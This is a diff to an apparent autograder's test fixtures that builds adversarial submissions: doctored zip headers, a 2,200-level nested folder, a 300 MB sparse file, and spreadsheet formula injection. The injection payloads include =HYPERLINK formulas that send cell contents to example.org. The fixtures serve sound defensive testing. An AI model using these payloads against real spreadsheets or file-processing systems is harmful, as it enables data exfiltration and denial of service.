@@ -12,13 +12,16 @@ wherever the grader keeps them, if the sandbox let them see.
 """
 
 import json
+import os
 import pickle
 import py_compile
 import shutil
+import struct
 from dataclasses import dataclass, field
 from pathlib import Path
 
-from autograder.demo import reference_helpers, working_copy
+from autograder.demo import reference_helpers, working_copy, zip_folder
+from autograder.submissions import rejected_label
 
 CANARY = "canary"  # an honest student graded first; no attack may change anything of theirs
 LESSON = "02-sigmoid-vs-softmax"
@@ -74,9 +77,18 @@ class Case:
     build: object  # build(folder): turn the correct working copy in `folder` into the case
     expected: dict = field(default_factory=dict)  # function -> status; the rest "passed"
     all_functions: str = ""  # the status of every function, when the package cannot import
+    # A submission refused as a whole before grading has no per-function statuses: its
+    # one row in submissions.csv holds `problem`, and it has no other rows anywhere.
+    problem: str = ""
+    pack: object = None  # pack(folder): turn the built folder into what is handed in
+    label: str = ""  # the id its rows are under, if not its name (a rejected entry's)
 
     def status(self, function):
         return self.all_functions or self.expected.get(function, "passed")
+
+    @property
+    def student(self):
+        return self.label or self.name
 
 
 def helpers_of(folder):
@@ -554,6 +566,200 @@ CASES = [
 ]
 
 
+# -- issue 11: archives, folders and spreadsheet cells ------------------------------------
+# Each of these once ended `course grade` with a traceback and no grades.csv, hung it,
+# filled OUT, or put a live formula in a CSV. Zips are made by zipfile and then edited
+# byte by byte: zipfile writes neither encryption nor methods it cannot read.
+
+DEPTH = 2200  # folders, one inside the other
+SPARSE = 300 * 2**20  # bytes that take no disk: apparent size only
+# A spreadsheet formula that sends a cell to a server; a file name holds no "/".
+HYPERLINK = '=HYPERLINK("https://example.org/?"&A1,"see")'
+FORMULA_FOLDER = '=HYPERLINK("example.org?"&A1,"open")'
+# The same, and more formulas after a ";" and a line break, where a spreadsheet that
+# splits on ";" would start a cell.
+FORMULA_MESSAGE = HYPERLINK + ";=1+1\n-2+3,@SUM(A1)"
+HUGE_MESSAGE = 300_000  # characters
+RERUN = "huge-message"  # graded a second time on the same OUT, after the batch
+
+
+def central_directory(data):
+    """The offsets of a zip's central directory entries, from its end record."""
+    end = data.rindex(b"PK\x05\x06")
+    count, _, offset = struct.unpack("<HII", data[end + 10 : end + 20])
+    offsets = []
+    for _ in range(count):
+        offsets.append(offset)
+        name, extra, comment = struct.unpack("<HHH", data[offset + 28 : offset + 34])
+        offset += 46 + name + extra + comment
+    return offsets
+
+
+def members(data):
+    """(name, central entry offset, local header offset) of every member of a zip."""
+    found = []
+    for entry in central_directory(data):
+        length = struct.unpack("<H", data[entry + 28 : entry + 30])[0]
+        name = bytes(data[entry + 46 : entry + 46 + length]).decode()
+        found.append((name, entry, struct.unpack("<I", data[entry + 42 : entry + 46])[0]))
+    return found
+
+
+def encrypt(data, name):
+    """Set the "encrypted" flag of member `name` in both of its headers."""
+    for member, entry, local in members(data):
+        if member.endswith(name):
+            data[entry + 8] |= 0x1
+            data[local + 6] |= 0x1
+
+
+def method(number):
+    """An edit that labels member `name` as compressed with method `number` (9: Deflate64,
+    99: AES), as Windows or 7-Zip write them; its data stays deflate."""
+
+    def edit(data, name):
+        for member, entry, local in members(data):
+            if member.endswith(name):
+                data[entry + 10 : entry + 12] = struct.pack("<H", number)
+                data[local + 8 : local + 10] = struct.pack("<H", number)
+
+    return edit
+
+
+def corrupt(data, name):
+    """Overwrite the start of member `name`'s deflate data: an invalid block type."""
+    for member, _, local in members(data):
+        if member.endswith(name):
+            lengths = struct.unpack("<HH", data[local + 26 : local + 30])
+            start = local + 30 + sum(lengths)
+            data[start : start + 16] = b"\xff" * 16
+
+
+def zipped(*edits, member=MODULE):
+    """A pack that zips the working copy as an LMS does, then applies `edits` to the
+    bytes of `member`."""
+
+    def pack(folder):
+        archive = folder.with_suffix(".zip")
+        zip_folder(folder, archive, folder.name)
+        shutil.rmtree(folder)
+        data = bytearray(archive.read_bytes())
+        for edit in edits:
+            edit(data, member)
+        archive.write_bytes(bytes(data))
+
+    return pack
+
+
+def nested(folder, depth=DEPTH):
+    """Move the working copy to the bottom of `depth` folders named "d".
+
+    Paths that deep are longer than the system allows, so each level is made relative
+    to the one above it.
+    """
+    top = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
+    inside = os.listdir(top)
+    level = os.dup(top)
+    for _ in range(depth):
+        os.mkdir("d", dir_fd=level)
+        below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=level)
+        os.close(level)
+        level = below
+    for name in inside:
+        os.rename(name, name, src_dir_fd=top, dst_dir_fd=level)
+    os.close(level)
+    os.close(top)
+
+
+def flatten(folder):
+    """Undo `nested` one level at a time: shutil.rmtree recurses once per level."""
+    chain = folder / "d"
+    while (chain / "d").is_dir():
+        (chain / "d").rename(folder / "lifted")
+        chain.rmdir()
+        (folder / "lifted").rename(chain)
+
+
+def sparse_helpers(folder):
+    """A helpers module of SPARSE bytes that occupies no disk."""
+    with (helpers_of(folder) / "padding.py").open("wb") as f:
+        f.truncate(SPARSE)
+
+
+def renamed(name):
+    def pack(folder):
+        folder.rename(folder.with_name(name))
+
+    return pack
+
+
+def unchanged(folder):
+    """The correct working copy, as built."""
+
+
+ISSUE_11 = [
+    Case(
+        "encrypted-zip",
+        "a zip whose members are encrypted (password-protected)",
+        unchanged,
+        problem="is encrypted",
+        pack=zipped(encrypt),
+    ),
+    Case(
+        "corrupt-deflate-zip",
+        "a zip whose helpers module has corrupt deflate data",
+        unchanged,
+        problem="is corrupt",
+        pack=zipped(corrupt),
+    ),
+    Case(
+        "deflate64-zip",
+        "a zip compressed with Deflate64 (method 9), which zipfile cannot read",
+        unchanged,
+        problem="compression method this grader cannot read (9",
+        pack=zipped(method(9)),
+    ),
+    Case(
+        "deep-folder",
+        f"the working copy at the bottom of {DEPTH} nested folders",
+        nested,
+        problem="nested over 32 folders deep",
+    ),
+    Case(
+        "sparse-helpers",
+        "a sparse 300 MB helpers/padding.py: no disk, but a copy would take 300 MB",
+        sparse_helpers,
+        problem="holds over 256 MB",
+    ),
+    Case(
+        "formula-folder-name",
+        "a folder named by a spreadsheet formula, not a student id",
+        unchanged,
+        problem="is not named by a student id",
+        pack=renamed(FORMULA_FOLDER),
+        label=rejected_label(FORMULA_FOLDER),
+    ),
+    Case(
+        "formula-message",
+        "softmax raises an error whose message is a spreadsheet formula",
+        with_softmax(f"    raise ValueError({FORMULA_MESSAGE!r})\n"),
+        {"softmax": "error"},
+    ),
+    Case(
+        RERUN,
+        f"softmax raises an error whose message is {HUGE_MESSAGE:,} characters long",
+        with_softmax(f"    raise ValueError('x' * {HUGE_MESSAGE})\n"),
+        {"softmax": "error"},
+    ),
+]
+CASES += ISSUE_11
+
+
+def unmake(submissions):
+    """Make what `make` wrote removable by shutil.rmtree (pytest cleans up with it)."""
+    flatten(submissions / "deep-folder")
+
+
 def make(submissions):
     """Write the canary and every case into `submissions`, one folder per student."""
     working_copy(submissions / CANARY, reference_helpers())
@@ -561,3 +767,5 @@ def make(submissions):
         folder = submissions / case.name
         working_copy(folder, reference_helpers())
         case.build(folder)
+        if case.pack:
+            case.pack(folder)
